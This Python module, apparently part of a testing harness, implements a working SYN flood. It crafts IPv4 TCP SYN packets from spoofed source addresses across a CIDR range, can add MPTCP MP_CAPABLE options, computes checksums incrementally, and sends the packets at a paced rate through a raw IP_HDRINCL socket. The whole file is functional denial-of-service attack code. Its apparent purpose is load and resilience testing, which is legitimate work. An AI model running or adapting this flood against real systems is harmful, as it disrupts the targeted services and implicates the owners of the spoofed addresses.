"""SYN flood: IPv4 TCP SYNs from spoofed sources of a CIDR, each from a new
(source address, source port), optionally carrying MPTCP's MP_CAPABLE, built
with struct (checksums summed incrementally) and sent paced from a raw socket
(IP_HDRINCL) in the caller's network namespace."""
from __future__ import annotations

import ipaddress
import logging
import math
import random
import socket
import struct
import threading
import time

from harness.attack import mptcpopt

log = logging.getLogger(__name__)

PORTS = range(1024, 65536)      # the source ports drawn from
MSS, WSCALE, WINDOW, TTL = 1460, 7, 64240, 64
SYN, DF = 0x02, 0x4000
FRESH_S = 10.0                  # a source tuple does not recur within this at the asked rate
MAX_BURST_S = 0.005             # lag beyond this is given up, not caught up in a burst
BATCH = 64                      # SYNs built and sent between two looks at the clock
STOP_CHECK_S = 0.05


def _options(mp_capable: bool) -> bytes:
    """As Linux lays them out without timestamps: MSS, NOP NOP SACK_PERM,
    NOP WSCALE, then MPTCP's; EOL-padded to 4 bytes (already aligned)."""
    opts = struct.pack("!BBH", 2, 4, MSS) + bytes([1, 1, 4, 2, 1, 3, 3, WSCALE])
    if mp_capable:
        opts += bytes([mptcpopt.KIND, 4]) + mptcpopt.mp_capable_syn()
    return opts + bytes(-len(opts) % 4)


def _sum16(data: bytes) -> int:
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


class _Syns:
    """Successive SYNs to dst:dport; the i-th from the i-th step of a seeded
    walk through sources x PORTS with a stride coprime to its size, so no
    (source, port) recurs within `space` SYNs."""

    def __init__(self, dst: str, dport: int, sources: str, mp_capable: bool, seed: int):
        net = ipaddress.IPv4Network(sources, strict=False)
        self.first, self.hosts = int(net.network_address), net.num_addresses
        if net.prefixlen <= 30:                     # not the network and broadcast addresses
            self.first, self.hosts = self.first + 1, self.hosts - 2
        self.space = self.hosts * len(PORTS)
        self.stride = int(self.space * 0.6180339887) | 1
        while math.gcd(self.stride, self.space) != 1:
            self.stride += 1
        self.rng = random.Random(seed)
        self.index = self.rng.randrange(self.space)
        self.dst, self.dport = int(ipaddress.IPv4Address(dst)), dport
        self.options = _options(mp_capable)
        tcp_len = 20 + len(self.options)
        self.total, self.doff = 20 + tcp_len, (tcp_len // 4) << 4
        self.pack = struct.Struct(f"!BBHHHBBHIIHHIIBBHHH{len(self.options)}s").pack
        # The ones'-complement sums of what every packet shares: per packet
        # only the IP id, source, source port and ISN are added.
        self.ip_sum = _sum16(struct.pack("!BBHHHBBHII", 0x45, 0, self.total, 0, DF, TTL,
                                         socket.IPPROTO_TCP, 0, 0, self.dst))
        self.tcp_sum = _sum16(struct.pack("!IBBH", self.dst, 0, socket.IPPROTO_TCP, tcp_len)
                              + struct.pack("!HHIIBBHHH", 0, dport, 0, 0, self.doff, SYN, WINDOW, 0, 0)
                              + self.options)

    def take(self, n: int) -> list[bytes]:
        out, bits = [], self.rng.getrandbits
        for _ in range(n):
            self.index = (self.index + self.stride) % self.space
            port_i, host_i = divmod(self.index, self.hosts)
            src, sport, seq, ident = self.first + host_i, PORTS[0] + port_i, bits(32), bits(16)
            s = self.ip_sum + ident + (src >> 16) + (src & 0xFFFF)
            s = (s & 0xFFFF) + (s >> 16)
            ip_ck = ~((s & 0xFFFF) + (s >> 16)) & 0xFFFF
            s = self.tcp_sum + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)
            s = (s & 0xFFFF) + (s >> 16)
            tcp_ck = ~((s & 0xFFFF) + (s >> 16)) & 0xFFFF
            out.append(self.pack(0x45, 0, self.total, ident, DF, TTL, socket.IPPROTO_TCP, ip_ck,
                                 src, self.dst, sport, self.dport, seq, 0, self.doff, SYN, WINDOW,
                                 tcp_ck, 0, self.options))
        return out


def syn_segments(dst: str, dport: int, sources: str, count: int, mp_capable: bool,
                 seed: int = 1) -> list[bytes]:
    """`count` IPv4 SYN packets to dst:dport, each from a distinct
    (source, source port) of `sources`."""
    syns = _Syns(dst, dport, sources, mp_capable, seed)
    if count > syns.space:
        raise ValueError(f"{sources} has {syns.space} source tuples, fewer than {count}")
    return syns.take(count)


def _raw_socket() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def flood(dst: str, dport: int, sources: str, rate_pps: float, duration_s: float, mp_capable: bool,
          stop: threading.Event | None = None) -> dict:
    """SYNs at rate_pps for duration_s (or until `stop`); slower only if this
    process cannot keep up, which achieved_pps < rate_pps shows."""
    if rate_pps <= 0 or duration_s < 0:
        raise ValueError(f"rate {rate_pps} pps for {duration_s} s")
    syns = _Syns(dst, dport, sources, mp_capable, random.randrange(1 << 32))
    if syns.space < rate_pps * FRESH_S:
        raise ValueError(f"{sources} has {syns.space} source tuples: at {rate_pps:g} pps "
                         f"they would recur within {FRESH_S:g} s")
    burst = max(1, int(rate_pps * MAX_BURST_S))
    sock = _raw_socket()
    send, addr = sock.sendto, (dst, 0)
    sent = errors = done = 0
    start = base = time.monotonic()
    end = start + duration_s
    try:
        while stop is None or not stop.is_set():
            now = time.monotonic()
            if now >= end:
                break
            due = int((now - base) * rate_pps) + 1 - done    # the k-th is due at base + k/rate
            if due <= 0:
                time.sleep(min(base + done / rate_pps, end, now + STOP_CHECK_S) - now)
                continue
            if due > burst:                 # behind: give the lag up rather than burst it out
                base += (due - burst) / rate_pps
                due = burst
            n = min(due, BATCH)
            for pkt in syns.take(n):
                try:
                    send(pkt, addr)
                    sent += 1
                except OSError:
                    errors += 1
            done += n
    finally:
        sock.close()
    elapsed = time.monotonic() - start
    achieved = sent / elapsed if elapsed > 0 else 0.0
    if achieved < 0.95 * rate_pps and elapsed >= 0.1:
        log.warning("SYN flood reached %.0f of the %.0f pps asked (%d errors)", achieved, rate_pps, errors)
    return {"sent": sent, "duration_s": elapsed, "achieved_pps": achieved, "rate_pps": rate_pps,
            "errors": errors, "mp_capable": mp_capable, "sources": sources}
